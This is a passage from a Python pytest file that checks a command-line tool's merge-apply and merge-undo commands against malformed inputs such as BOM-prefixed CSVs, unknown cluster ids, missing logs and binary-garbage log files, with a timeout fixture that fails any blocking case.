def _decisions_bom_crlf(tmp: Path, runner: CliRunner, run_dir: Path) -> None:
    c = _clusters(run_dir)
    dec = tmp / "d.csv"
    dec.write_bytes(("\ufeffcluster_id,decision\r\n" + f"{c[0]},Approve \r\n").encode())
    res = runner.invoke(
        cli, ["merge", "apply", str(run_dir), "--decisions", str(dec), "--out", str(tmp / "m")]
    )
    assert res.exit_code == 0, res.output
    undo = runner.invoke(cli, ["merge", "undo", str(tmp / "m" / "merge_log.json")])
    assert undo.exit_code == 0, undo.output


def _decisions_unknown_clusters(tmp: Path, runner: CliRunner, run_dir: Path) -> None:
    dec = tmp / "d.csv"
    dec.write_text("cluster_id,decision\nnot-a-cluster,approve\n", encoding="utf-8")
    res = runner.invoke(
        cli, ["merge", "apply", str(run_dir), "--decisions", str(dec), "--out", str(tmp / "m")]
    )
    assert "Traceback" not in res.output
    assert res.exit_code in (0, 2), res.output
    if res.exit_code == 0:
        assert "not-a-cluster" in res.output or "not in this run" in res.output


def _undo_missing_log(tmp: Path, runner: CliRunner, run_dir: Path) -> None:
    _refused(runner.invoke(cli, ["merge", "undo", str(tmp / "nope" / "merge_log.json")]), 2, "nope")


def _undo_log_is_garbage(tmp: Path, runner: CliRunner, run_dir: Path) -> None:
    log = tmp / "m" / "merge_log.json"
    log.parent.mkdir()
    log.write_bytes(b"\xff\xfe" + bytes(range(200)))
    res = runner.invoke(cli, ["merge", "undo", str(log)])
    assert res.exit_code in (2, 3), res.output
    assert "Traceback" not in res.output + res.stderr
    assert len(res.stderr.strip().splitlines()) == 1


MERGES += [
    Case("merge-decisions-bom-crlf-and-case", "applied and undone", _decisions_bom_crlf),  # type: ignore[arg-type]
    Case(
        "merge-decisions-unknown-cluster-ids", "counted, never a crash", _decisions_unknown_clusters
    ),  # type: ignore[arg-type]
    Case("merge-undo-log-missing", "exit 2, one line", _undo_missing_log),  # type: ignore[arg-type]
    Case("merge-undo-log-binary-garbage", "one line exit 2/3", _undo_log_is_garbage),  # type: ignore[arg-type]
]


# --- the tests ----------------------------------------------------------------------------


CASE_SECONDS = 180  # a case that blocks (a pipe read forever) fails instead of hanging CI


@pytest.fixture
def deadline() -> Iterator[None]:
    def expired(signum: int, frame: object) -> None:
        raise TimeoutError(f"the case did not finish in {CASE_SECONDS} s (blocked?)")

    old = signal.signal(signal.SIGALRM, expired)
    signal.alarm(CASE_SECONDS)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, old)


@pytest.mark.parametrize("c", CASES, ids=[c.id for c in CASES])
def test_hostile(c: Case, tmp_path: Path, runner: CliRunner, monkeypatch, deadline) -> None:
    monkeypatch.chdir(tmp_path)  # a case never writes into the repository
    c.run(tmp_path, runner)


@pytest.mark.parametrize("c", MERGES, ids=[c.id for c in MERGES])
def test_hostile_merge(
    c: Case, merge_run: Path, tmp_path: Path, runner: CliRunner, deadline
) -> None:
    c.run(tmp_path, runner, merge_run)  # type: ignore[call-arg]


def test_case_ids_are_unique_and_classed() -> None:
    ids = [c.id for c in CASES + MERGES]
    assert len(ids) == len(set(ids))
    assert {i.split("-")[0] for i in ids} == {"files", "config", "environment", "merge"}
